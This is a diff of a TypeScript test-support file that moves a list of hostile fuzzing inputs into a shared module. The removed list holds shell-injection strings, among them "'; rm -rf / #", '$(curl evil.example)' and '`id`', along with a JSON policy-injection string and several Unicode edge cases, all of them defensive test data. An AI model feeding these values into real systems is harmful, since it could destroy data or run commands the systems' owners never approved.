@@ -22,26 +22,4 @@ export function validInputs(): GuideInputs {
   };
 }
 
-/** Strings that try to break out of JSON, YAML or shell, or to confuse the reader. */
-export const HOSTILE: readonly string[] = [
-  '"],"Action":"*"',
-  "'; rm -rf / #",
-  '$(curl evil.example)',
-  '`id`',
-  'a\\b',
-  'line1\nline2',
-  'tab\there',
-  'cr\rhere',
-  'nul\u0000byte',
-  'bidi\u202Eevil',
-  'ポータル',
-  '１２３４５６７８９０１２',
-  'emoji😀x',
-  '{{SessionName}}',
-  'a: b',
-  '- item',
-  '#comment',
-  '\u3000fullwidthspace',
-  'x'.repeat(100_000),
-  '"'.repeat(100_000),
-];
+export { HOSTILE } from '../../support/hostile.ts';
